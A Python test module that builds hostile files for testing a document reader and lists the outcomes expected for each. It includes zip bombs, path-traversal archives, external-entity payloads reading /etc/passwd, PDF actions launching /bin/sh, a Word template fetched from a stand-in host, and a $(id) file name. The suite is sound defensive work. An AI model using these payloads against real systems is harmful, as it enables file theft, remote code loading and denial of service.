"""Files made to harm: to burst, to hang, to leak, to mislead. Each is made here from nothing, none is kept as a file."""

from __future__ import annotations

import importlib
import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.readers.word_files import p, part, r, word_file

TEXT = "截至2023年底，全市共有社会组织312家，其中社会团体120家。"
SECRET = "top-secret-of-the-host"
_MB = 2**20
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@dataclass(frozen=True)
class Attack:
    """A hostile file; ``outcomes`` are those that are honest for it, ``slow`` marks what takes more than a few seconds."""

    name: str
    make: Callable[[], bytes]
    outcomes: frozenset[str]
    slow: bool = False


ATTACKS: list[Attack] = []
_READ = frozenset({"ok", "partial"})
_REFUSED = frozenset({"limit_exceeded", "corrupt", "out_of_memory"})


def attack(name: str, *outcomes: str, slow: bool = False) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Register a maker; without outcomes it may be read or refused for size or damage."""

    def register(make: Callable[[], bytes]) -> Callable[[], bytes]:
        ATTACKS.append(Attack(name, make, frozenset(outcomes) or _READ | _REFUSED, slow))
        return make

    return register


# --- zip ---------------------------------------------------------------------------------------------------------


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx(body: str, **more: bytes) -> bytes:
    members = {"[Content_Types].xml": b"<Types/>", "word/document.xml": body.encode(), **more}
    return zipped({name.replace("__", "/"): data for name, data in members.items()})


@attack("zip/bomb-200MB.docx", "limit_exceeded")
def _inflated() -> bytes:
    return _docx(part("document", f"<w:body><w:p><w:r><w:t>{'A' * 200 * _MB}</w:t></w:r></w:p></w:body>"))


@attack("zip/ratio.docx", "limit_exceeded")
def _ratio() -> bytes:
    return _docx(part("document", f"<w:body><w:p><w:r><w:t>{'A' * 30 * _MB}</w:t></w:r></w:p></w:body>"))


@attack("zip/lying-sizes.docx", "corrupt")
def _lying() -> bytes:
    body = part("document", f"<w:body>{p(TEXT * 1000)}</w:body>").encode()
    honest = _docx(body.decode())
    return honest.replace(struct.pack("<I", len(body)), struct.pack("<I", 100))


@attack("zip/nested.zip", "ok", "limit_exceeded")
def _nested() -> bytes:
    data = zipped({"文.txt": TEXT.encode()})
    for level in range(6):
        data = zipped({f"{level}.zip": data})
    return data


@attack("zip/members.zip", "limit_exceeded")
def _members() -> bytes:
    return zipped({f"{n}.txt": b"" for n in range(10_001)}, zipfile.ZIP_STORED)


@attack("zip/overlapping.zip", "limit_exceeded", "corrupt")
def _overlapping() -> bytes:
    """Two thousand entries of the directory that all mean the same member of 1 MB."""
    single = zipped({"a.txt": bytes(_MB)})
    at = single.index(b"PK\x01\x02")
    entry, end = single[at : single.index(b"PK\x05\x06")], bytearray(single[single.index(b"PK\x05\x06") :])
    directory = b"".join(entry.replace(b"a.txt", f"{n:05}".encode()) for n in range(2000))
    struct.pack_into("<HHII", end, 8, 2000, 2000, len(directory), at)
    return single[:at] + directory + bytes(end)


@attack("zip/slip.zip", "ok")
def _slip() -> bytes:
    return zipped({"../../../../tmp/slip.txt": TEXT.encode(), "/etc/slip.txt": TEXT.encode(), "C:\\slip.txt": b"x 1\n"})


@attack("zip/symlink.zip")
def _symlink() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("passwd.txt")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


@attack("zip/names.zip", "ok")
def _names() -> bytes:
    return zipped(
        {name: TEXT.encode() for name in ("a\nb.txt", "\x1b[31mred.txt", "\u202etxt.exe", "$(id).txt", "--help.txt")}
    )


@attack("zip/empty.zip", "empty_text")
def _empty_zip() -> bytes:
    return zipped({})


@attack("zip/cut.zip", "corrupt")
def _cut_zip() -> bytes:
    return zipped({"a.txt": TEXT.encode() * 50})[:90]


# --- Word --------------------------------------------------------------------------------------------------------


@attack("docx/external-entity.docx", "corrupt")
def _external_entity() -> bytes:
    dtd = '<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _docx(f"{dtd}<w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")


@attack("docx/external-entity-behind-a-comment.docx", "corrupt")
def _commented_entity() -> bytes:
    dtd = f'<!-- {"x" * 5000} <a> --><!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return _docx(f"{dtd}<w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>")


@attack("docx/external-entity-utf16.docx", "corrupt")
def _utf16_entity() -> bytes:
    dtd = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    body = f"{dtd}<w:document {_W}><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
    return zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": body.encode("utf-16")})


@attack("docx/laughs.docx", "corrupt")
def _laughs() -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    dtd = f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{entities}]>'
    return _docx(f"{dtd}<w:document {_W}><w:body><w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>")


@attack("docx/a-million-empty-paragraphs.docx", "empty_text", "limit_exceeded", "out_of_memory", slow=True)
def _empty_paragraphs() -> bytes:
    return word_file("<w:p/>" * 1_000_000)


@attack("docx/many-paragraphs.docx", slow=True)
def _paragraphs() -> bytes:
    return word_file("".join(f"<w:p><w:r><w:t>共{n}家。</w:t></w:r></w:p>" for n in range(400_000)))


@attack("docx/deep.docx")
def _deep() -> bytes:
    return word_file("<w:sdt><w:sdtContent>" * 20_000 + p(TEXT) + "</w:sdtContent></w:sdt>" * 20_000)


@attack("docx/deep-tables.docx")
def _deep_tables() -> bytes:
    return word_file("<w:tbl><w:tr><w:tc>" * 80 + p(TEXT) + "</w:tc></w:tr></w:tbl>" * 80)


@attack("docx/cells.docx", slow=True)
def _cells() -> bytes:
    row = "<w:tr>" + "".join(f"<w:tc>{r(f'{n}家').join(('<w:p>', '</w:p>'))}</w:tc>" for n in range(100)) + "</w:tr>"
    return word_file(f"<w:tbl>{row * 1000}</w:tbl>")


@attack("docx/wide-span.docx", "ok", "partial", "limit_exceeded")
def _span() -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/><w:vMerge w:val="restart"/></w:tcPr>{p(TEXT)}</w:tc>'
    return word_file(f"<w:tbl><w:tr>{cell}{cell}</w:tr></w:tbl>{p(TEXT)}")


def _numbered(kind: str) -> bytes:
    level = f'<w:lvl w:ilvl="0"><w:start w:val="2000000000"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="%1."/></w:lvl>'
    numbering = f'<w:abstractNum w:abstractNumId="0">{level}</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    return word_file(p(TEXT, num=(1, 0)), numbering=part("numbering", numbering))


for _kind in ("lowerRoman", "upperLetter", "chineseCountingThousand", "decimal", "ideographDigital"):
    attack(f"docx/number-{_kind}.docx", "ok", "partial")(lambda kind=_kind: _numbered(kind))


@attack("docx/circular-styles.docx", "ok", "partial")
def _styles() -> bytes:
    style = '<w:style w:type="paragraph" w:styleId="{}"><w:basedOn w:val="{}"/></w:style>'
    return word_file(p(TEXT, style="a"), styles=part("styles", style.format("a", "b") + style.format("b", "a")))


@attack("docx/outside-part.docx", "corrupt", "ok", "empty_text")
def _outside_part() -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://x/officeDocument" Target="../../../../../../etc/passwd"/></Relationships>'
    )
    return _docx(part("document", f"<w:body>{p(TEXT)}</w:body>"), **{"_rels__.rels": relation.encode()})


@attack("docx/remote-template.docx", "ok")
def _remote() -> bytes:
    relation = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://192.0.2.1/evil.dotm" TargetMode="External"/></Relationships>'
    )
    body = part("document", f"<w:body>{p(TEXT)}</w:body>")
    return _docx(
        body, **{"word___rels__settings.xml.rels": relation.encode(), "word__vbaProject.bin": b"\xd0\xcf macro"}
    )


@attack("docx/no-content-types.docx", "ok", "corrupt", "unsupported")
def _no_types() -> bytes:
    return zipped({"word/document.xml": part("document", f"<w:body>{p(TEXT)}</w:body>").encode()})


@attack("docx/long-line.docx", slow=True)
def _long_line() -> bytes:
    rng = random.Random(5)
    line = "".join(f"{rng.choice('甲乙丙丁戊己庚辛')}市{rng.randrange(10**6)}家，" for _ in range(900_000))
    return word_file(p(line))


# --- PDF ---------------------------------------------------------------------------------------------------------


def pdf(objects: dict[int, bytes], root: int = 1) -> bytes:
    out = bytearray(b"%PDF-1.7\n")
    places: dict[int, int] = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 %b \n" % (places.get(number, 0), b"n" if number in places else b"f")
    out += b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (size, root, start)
    return bytes(out)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(data), more, data)


def one_page(content: bytes, more: bytes = b"", resources: bytes = b"", **objects: bytes) -> bytes:
    extra = {int(name[1:]): body for name, body in objects.items()}
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R%b>>" % more,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>%b>>>>"
            % resources,
            4: content,
            5: font,
            **extra,
        }
    )


def deflated(data: bytes, times: int = 1) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data


@attack("pdf/flate-twice.pdf", "limit_exceeded", slow=True)
def _flate_twice() -> bytes:
    return one_page(stream(deflated(bytes(200 * _MB), 2), b"/Filter[/FlateDecode/FlateDecode]"))


@attack("pdf/flate-500MB.pdf", "limit_exceeded", slow=True)
def _flate_big() -> bytes:
    return one_page(stream(deflated(b" " * 500 * _MB), b"/Filter/FlateDecode"))


@attack("pdf/forms-that-double.pdf", slow=True)
def _forms() -> bytes:
    """Each form draws the next ten times: 10^9 drawings."""
    objects = {}
    for n in range(10, 19):
        resources = b"/Resources<</XObject<</X %d 0 R>>>>" % (n + 1)
        objects[f"n{n}"] = stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]" + resources)
    last = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</Font<</F1 5 0 R>>>>"
    objects["n19"] = stream(b"BT /F1 9 Tf (lol) Tj ET", last)
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 10 0 R>>", **objects)


@attack("pdf/form-in-itself.pdf", "ok", "partial", "corrupt", "empty_text", "needs_ocr", "limit_exceeded")
def _form_loop() -> bytes:
    form = stream(b"/X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 10 0 R>>>>")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 10 0 R>>", n10=form)


@attack("pdf/pages-in-themselves.pdf", "corrupt", "empty_text", "needs_ocr", "limit_exceeded")
def _page_loop() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"})


@attack("pdf/a-million-pages.pdf", "limit_exceeded", "corrupt")
def _page_count() -> bytes:
    return pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[]/Count 1000000>>"})


@attack("pdf/many-characters.pdf", slow=True)
def _many_characters() -> bytes:
    line = b"BT /F1 9 Tf 1 0 0 1 9 %d Tm (%b) Tj ET\n"
    content = b"".join(line % (n % 800, b"There are 312 of them. " * 8) for n in range(20_000))
    return one_page(stream(deflated(content), b"/Filter/FlateDecode"))


@attack("pdf/many-rulings.pdf", slow=True)
def _rulings() -> bytes:
    lines = b"".join(b"%d %d m %d %d l S\n" % (n % 595, 0, n % 595, 842) for n in range(150_000))
    words = b"".join(
        b"BT /F1 9 Tf 1 0 0 1 %d %d Tm (a1) Tj ET\n" % (9 + 40 * (n % 14), n // 14 * 9) for n in range(900)
    )
    return one_page(stream(deflated(lines + words), b"/Filter/FlateDecode"))


@attack("pdf/actions.pdf", "ok", "partial", "needs_ocr", "empty_text")
def _actions() -> bytes:
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1'\\))>>]>>>>"
    return one_page(
        stream(b"BT /F1 12 Tf 72 700 Td (There are 312 associations in the city today.) Tj ET"), more=launch
    )


@attack("pdf/previous-in-itself.pdf", "ok", "corrupt", "partial", "needs_ocr")
def _previous() -> bytes:
    good = one_page(stream(b"BT /F1 12 Tf 72 700 Td (There are 312 associations.) Tj ET"))
    start = int(good.rsplit(b"startxref\n", 1)[1].split()[0])
    return good.replace(b"/Root 1 0 R>>", b"/Root 1 0 R/Prev %d>>" % start)


for _name, _data in {
    "header-only": b"%PDF-1.7\n",
    "garbage": b"%PDF-1.7\n" + random.Random(1).randbytes(50_000),
    "html-inside": b"%PDF-1.4\n<html><body>404 Not Found</body></html>",
    "cut": b"",
}.items():
    attack(f"pdf/{_name}.pdf", "corrupt", "ok", "needs_ocr", "partial", "empty_text")(
        lambda data=_data: data or one_page(stream(b"BT /F1 9 Tf (x) Tj ET"))[:200]
    )


# --- HTML and text -----------------------------------------------------------------------------------------------


@attack("html/deep.html")
def _deep_html() -> bytes:
    return b"<html><body>" + b"<div>" * 100_000 + TEXT.encode()


@attack("html/unclosed.html", "ok", "empty_text")
def _unclosed() -> bytes:
    return b"<html><body>" + b"<a<a<a<b " * 50_000 + TEXT.encode()


@attack("html/spans.html")
def _spans() -> bytes:
    cell = f'<td rowspan="999999999" colspan="999999999">{TEXT}</td>'
    return f"<html><body><table>{f'<tr>{cell * 3}</tr>' * 3}</table></body></html>".encode()


@attack("html/file-frames.html", "ok", "partial", "empty_text")
def _frames() -> bytes:
    return (
        '<!DOCTYPE html SYSTEM "file:///etc/passwd" [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><head>'
        '<base href="http://192.0.2.1/"><meta http-equiv="refresh" content="0;url=http://192.0.2.1/">'
        '<link rel="stylesheet" href="file:///etc/passwd"><script src="http://192.0.2.1/x.js"></script></head>'
        f'<body><iframe src="file:///etc/passwd"></iframe><p>{TEXT}&x;</p><object data="file:///etc/passwd"></object></body></html>'
    ).encode()


@attack("html/huge-attribute.html")
def _attribute() -> bytes:
    return b'<html><body><p title="' + b"x" * 12 * _MB + b'">' + TEXT.encode() + b"</p></body></html>"


@attack("html/tables-in-tables.html")
def _tables_in_tables() -> bytes:
    return ("<html><body>" + "<table><tr><td>1家" * 80 + "</td></tr></table>" * 80 + "</body></html>").encode()


@attack("html/one-line-30MB.html", slow=True)
def _html_line() -> bytes:
    return ("<html><body><p>" + TEXT * (10 * _MB // len(TEXT)) + "</p></body></html>").encode()[: 30 * _MB]


def _lines(unit: str, size: int) -> Callable[[], bytes]:
    def make() -> bytes:
        data = unit.encode()
        return data * (size // len(data))

    return make


for _label, _unit in {
    "prose": TEXT,
    "prose-without-stops": TEXT.replace("。", "，"),
    "digits": "1",
    "numbers": "1家2个3人",
    "blanks": "甲 \u3000",
    "tabs": "1\t",
    "dots": ".",
    "dashes": "—",
    "brackets": "（",
    "quotes": "“",
    "articles": "第一条",
    "heads": "一、",
    "dates": "2021年1月2日",
    "names": "云岭省松溪区",
    "latin": "ab c",
    "of-which": "其中1家",
    "lines": "共1家\n",
    "listed": "1、共1家\n",
    "contents": "第一章 总则 …… 1\n",
    "blank-lines": "\n \n",
    "cells": "甲\t1\n",
}.items():
    attack(f"txt/{_label}-30MB.txt", "ok", "partial", "limit_exceeded", "empty_text", slow=True)(
        _lines(_unit, 30 * _MB)
    )
    attack(f"txt/{_label}-20kB.txt", "ok", "partial", "empty_text")(_lines(_unit, 20_000))

for _label, _bytes in {
    "random": random.Random(2).randbytes(100_000),
    "nulls": bytes(100_000),
    "escapes": b"\x1b[2J\x1b]0;x\x07" + TEXT.encode(),
    "surrogates": b"\xed\xa0\x80\xed\xbf\xbf" + TEXT.encode(),
    "odd-utf16": b"\xff\xfe" + TEXT.encode("utf-16-le") + b"\x00",
    "bom-only": b"\xef\xbb\xbf",
    "bidi": "\u202e\u2066共312家\u2069\u202c".encode() + TEXT.encode(),
    "combining": ("e" + "\u0301" * 20_000 + TEXT).encode(),
    "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(3).randbytes(5_000),
    "rtf": b"{\\rtf1" + b"{\\b" * 20_000 + b"x",
    "rar": b"Rar!\x1a\x07\x01\x00" + random.Random(4).randbytes(500),
    "seven": b"7z\xbc\xaf\x27\x1c\x00\x04" + random.Random(4).randbytes(500),
    "gzip": zlib.compress(bytes(_MB), wbits=31),
    "png": b"\x89PNG\r\n\x1a\n" + random.Random(4).randbytes(500),
    "xml": b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
    "mime": b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=a\n\n" + b"--a\n" * 10_000,
}.items():
    attack(
        f"other/{_label}.txt",
        *(
            "ok",
            "partial",
            "empty_text",
            "corrupt",
            "unsupported",
            "undecodable_text",
            "needs_ocr",
            "encrypted",
            "limit_exceeded",
        ),
    )(lambda data=_bytes: data)


def every() -> list[Attack]:
    """All attacks, those of the modules beside this one too."""
    for kind in ("pdf", "office", "other"):
        importlib.import_module(f"tests.hostile.attacks_{kind}")
    return ATTACKS


def quick() -> Iterator[Attack]:
    """The attacks that end within a few seconds each."""
    return (a for a in every() if not a.slow)
